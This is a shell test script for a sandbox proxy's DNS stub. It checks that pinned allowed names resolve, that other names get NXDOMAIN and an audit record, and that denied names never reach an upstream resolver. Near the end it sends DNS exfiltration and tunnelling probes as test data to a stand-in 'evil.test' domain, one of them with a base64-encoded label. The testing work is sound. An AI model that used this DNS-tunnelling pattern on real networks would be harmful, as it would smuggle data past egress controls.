#!/bin/bash
# DNS stub: A/AAAA only for allowed names (pinned or resolved once), NXDOMAIN
# and an audit line for everything else, nothing forwarded for names that
# are not allowed (checked with a fake upstream resolver in a private netns).
. "$CAPSULE_SRC/tests/lib.sh"
. "$CAPSULE_SRC/tests/proxy/common.sh"
t_need_cmd dig
DP=$(free_port)
start_proxy --dns 127.0.0.1:$DP --allow 'api.example.test' --dns-pin 'api.example.test=203.0.113.7,2001:db8::7' \
  --allow 'GET *.wild.test/x/*' --dns-pin 'a.wild.test=203.0.113.8' || exit 1
q() { dig +time=2 +tries=1 @127.0.0.1 -p "$DP" "$@"; }
t_eq "A for an allowed pinned name" 203.0.113.7 "$(q +short api.example.test A)"
t_eq "AAAA for an allowed pinned name" 2001:db8::7 "$(q +short api.example.test AAAA)"
t_eq "case-insensitive name" 203.0.113.7 "$(q +short API.Example.TEST A)"
t_match "TXT for an allowed name: no data" "status: NOERROR.*ANSWER: 0" "$(q api.example.test TXT | tr '\n' ' ')"
t_match "other name: NXDOMAIN" "status: NXDOMAIN" "$(q evil.test A)"
t_match "wildcard apex: NXDOMAIN" "status: NXDOMAIN" "$(q wild.test A)"
t_eq "wildcard label" 203.0.113.8 "$(q +short a.wild.test A)"
t_eq "TCP query" 203.0.113.7 "$(q +tcp +short api.example.test A)"
t_match "TCP NXDOMAIN" "status: NXDOMAIN" "$(q +tcp evil.test A)"
sleep 0.2
t_match "denied query audited" '"event":"dns".*"name":"evil.test","qtype":"A","rule":null,"verdict":"deny"' "$(cat "$AUDIT")"
t_ok "audit chain verifies" "$PROXY" audit-verify "$AUDIT"

# No tunnelling: in a private netns with a fake upstream resolver that logs
# every query, a denied name must never reach it; an allowed unpinned
# wildcard name does (positive control).
if [ "$(id -u)" = 0 ] && unshare -nm true 2>/dev/null; then
  cat >"$T_TMP/fake_dns.py" <<'PY'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 53))
log = open(sys.argv[1], "a", buffering=1); print("ready", flush=True)
while True:
    d, a = s.recvfrom(2048); log.write(repr(d) + "\n")
    # reply NXDOMAIN
    s.sendto(d[:2] + b"\x81\x83" + d[4:6] + b"\x00\x00\x00\x00\x00\x00" + d[12:], a)
PY
  echo 'nameserver 127.0.0.1' >"$T_TMP/resolv.conf"
  cat >"$T_TMP/inner.sh" <<INNER
set -e
ip link set lo up
mount --bind "$T_TMP/resolv.conf" /etc/resolv.conf
python3 "$T_TMP/fake_dns.py" "$T_TMP/upstream.log" >"$T_TMP/fake.out" 2>&1 &
sleep 0.5
"$PROXY" --listen 127.0.0.1:3128 --dns 127.0.0.1:5353 --allow 'GET *.allowed.test/x/*' --audit "$T_TMP/a2.jsonl" >"$T_TMP/p2.out" 2>&1 &
sleep 0.5
dig +time=2 +tries=1 @127.0.0.1 -p 5353 secret-data-exfil.evil.test A >/dev/null || true
dig +time=2 +tries=1 @127.0.0.1 -p 5353 c2VjcmV0.tunnel.evil.test TXT >/dev/null || true
dig +time=5 +tries=1 @127.0.0.1 -p 5353 probe.allowed.test A >/dev/null || true
kill %1 %2
INNER
  unshare -nm bash "$T_TMP/inner.sh"
  if grep -q 'evil' "$T_TMP/upstream.log" 2>/dev/null; then t_fail "denied names never forwarded upstream"; else t_pass "denied names never forwarded upstream"; fi
  t_match "allowed wildcard name resolved upstream (control)" "allowed" "$(cat "$T_TMP/upstream.log" 2>/dev/null)"
else
  t_skip "netns tunnelling check needs root and unshare -nm"
fi
t_done
